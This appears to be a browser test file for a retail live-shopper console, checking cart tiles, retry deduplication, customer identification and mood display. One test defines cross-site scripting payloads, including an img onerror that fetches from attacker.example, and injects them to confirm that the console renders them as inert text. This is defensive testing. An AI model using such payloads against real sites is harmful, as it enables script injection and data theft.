"""The floor in a real browser: a shopper on /shop appears live in the associate console."""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from salon.demo.seed import DEMO_ACCOUNTS
from salon.identity.service import SiteInfo
from tests.support import LiveServer, batch, event
from tests.web.browser import chromium, demo_store, login_console

pytestmark = pytest.mark.browser
ASSOCIATE = DEMO_ACCOUNTS[0]
XSS = [
    "<img src=x onerror=\"window.__pwned=1;fetch('http://attacker.example/i')\">",
    "<script>window.__pwned=2</script>",
    '"><svg onload="window.__pwned=3">',
]


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[LiveServer, SiteInfo]]:
    with demo_store(str(tmp_path_factory.mktemp("db"))) as running:
        yield running


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as launched:
        yield launched


def test_shopper_add_to_cart_shows_on_the_floor_with_a_bag_and_story(
    demo: tuple[LiveServer, SiteInfo], browser: Any
) -> None:
    server, _ = demo
    console = browser.new_context().new_page()
    login_console(console, server.base_url, ASSOCIATE.email, ASSOCIATE.password)
    shopper = browser.new_context().new_page()
    shopper.goto(server.base_url + "/shop/p/P101")
    product_name = shopper.locator("h1").first.inner_text().strip()
    shopper.locator(".swatch").nth(1).click()
    shopper.locator("#add-to-cart").click()
    clicked_at = time.monotonic()
    tile = console.wait_for_selector(
        '.visitor[data-bag]:not([data-bag="0"])', timeout=2_000, state="visible"
    )
    assert time.monotonic() - clicked_at < 2.0
    assert tile.get_attribute("data-bag") in ("1", "2", "3")
    tile.click()
    console.wait_for_selector("#story .story-product", timeout=5_000)
    assert product_name in console.locator("#story").inner_text()
    assert console.locator("#story .story-cart-line").count() == 1


def test_visitor_controlled_text_is_inert_in_the_console(
    demo: tuple[LiveServer, SiteInfo], browser: Any
) -> None:
    server, site = demo
    page = browser.new_context().new_page()
    dialogs: list[str] = []
    outside: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: outside.append(r.url) if "attacker" in r.url else None)
    login_console(page, server.base_url, ASSOCIATE.email, ASSOCIATE.password)
    events = [
        event(
            "page_view",
            url="javascript:alert(1)//" + XSS[0],
            title=XSS[0],
            page_type="product",
            referrer=XSS[2],
        ),
        event("search", query=XSS[1]),
        event("product_view", product_id="P101", name=XSS[2], price=10),
        event("add_to_cart", product_id="P101", name=XSS[1], price=10, quantity=1),
    ]
    answer = httpx.post(server.base_url + "/api/track", json=batch(site, events))
    assert answer.status_code == 200
    visit_id = answer.json()["visit"]
    tile = page.wait_for_selector(f'.visitor[data-visit-id="{visit_id}"]', timeout=5_000)
    assert XSS[0] in tile.inner_text()  # shown as text, exactly as typed
    tile.click()
    page.wait_for_selector("#story .story-event", timeout=5_000)
    story = page.locator("#story").inner_text()
    assert XSS[1] in story and XSS[2] in story
    page.wait_for_timeout(300)  # give any injected handler the chance to run (it must not)
    assert page.evaluate("window.__pwned") is None
    assert dialogs == [] and outside == []
    assert page.locator("#floor img, #story img, #floor script, #story script").count() == 0


def test_the_storefront_carries_exactly_one_widget_tag(demo: tuple[LiveServer, SiteInfo]) -> None:
    server, site = demo
    html = httpx.get(server.base_url + "/shop").text
    assert html.count("/widget.js") == 1 and f'data-site="{site.key}"' in html


def test_a_lost_answer_is_retried_and_stored_once(
    demo: tuple[LiveServer, SiteInfo], browser: Any
) -> None:
    """The server stores a batch but its answer never reaches the widget: the widget retries,
    and deduplication by client event id keeps every event exactly once."""
    server, _ = demo
    context = browser.new_context()
    lost: list[str] = []

    def lose_first_cart_answer(route: Any) -> None:
        body = route.request.post_data or ""
        if not lost and "add_to_cart" in body:
            route.fetch()  # the server stores it ...
            lost.append(body)
            route.abort()  # ... but the widget sees a network failure
        else:
            route.continue_()

    context.route("**/api/track", lose_first_cart_answer)
    shopper = context.new_page()
    shopper.goto(server.base_url + "/shop/p/P102")
    product_name = shopper.locator("h1").first.inner_text().strip()
    shopper.locator("#add-to-cart").click()
    console = browser.new_context().new_page()
    login_console(console, server.base_url, ASSOCIATE.email, ASSOCIATE.password)
    tile = console.wait_for_selector(
        f'.visitor:has-text("{product_name}")[data-bag]:not([data-bag="0"])', timeout=15_000
    )
    assert lost, "the widget never sent the cart"
    visit_id = tile.get_attribute("data-visit-id")
    # wait until the retry has certainly been answered: the widget's outbox is empty
    deadline = time.monotonic() + 15
    while shopper.evaluate("localStorage.getItem('salon_outbox')") is not None:
        assert time.monotonic() < deadline, "the widget never got its batch acknowledged"
        shopper.wait_for_timeout(100)
    with httpx.Client(base_url=server.base_url) as client:
        login = client.post(
            "/api/auth/login", json={"email": ASSOCIATE.email, "password": ASSOCIATE.password}
        )
        assert login.status_code == 200
        site_id = client.get("/api/auth/me").json()["sites"][0]["id"]
        story = client.get(f"/api/sites/{site_id}/visits/{visit_id}").json()
    assert [e["type"] for e in story["events"]].count("add_to_cart") == 1
    assert story["cart"][0]["quantity"] == 1


def test_a_signed_in_customer_is_identified_on_the_floor(
    demo: tuple[LiveServer, SiteInfo], browser: Any
) -> None:
    server, _ = demo
    shopper = browser.new_context().new_page()
    shopper.goto(server.base_url + "/shop/account/signin?customer=C1001")
    shopper.goto(server.base_url + "/shop/c/watches")
    console = browser.new_context().new_page()
    login_console(console, server.base_url, ASSOCIATE.email, ASSOCIATE.password)
    tile = console.wait_for_selector(
        '.visitor[data-identified="true"]:has-text("Isabelle Fontaine")', timeout=10_000
    )
    assert tile.get_attribute("data-ribbon") == "platinum"
    tile.click()
    console.wait_for_selector("#story .story-order", timeout=5_000)
    assert console.locator("#story .story-order").count() >= 1


def test_an_angry_search_shows_a_frustrated_avatar_with_its_reason(
    demo: tuple[LiveServer, SiteInfo], browser: Any
) -> None:
    server, _ = demo
    console = browser.new_context().new_page()
    login_console(console, server.base_url, ASSOCIATE.email, ASSOCIATE.password)
    shopper = browser.new_context().new_page()
    shopper.goto(server.base_url + "/shop")
    shopper.fill("#search-input", "way too expensive, total rip-off")
    shopper.press("#search-input", "Enter")
    shopper.wait_for_url("**/shop/search**")
    tile = console.wait_for_selector(
        '.visitor[data-mood="frustrated"]:has-text("rip-off")', timeout=10_000
    )
    tile.click()
    console.wait_for_selector("""#story .story-reason:has-text("typed 'rip-off'")""", timeout=5_000)
    assert "mood" in console.locator("#story .story-scores").inner_text().lower()
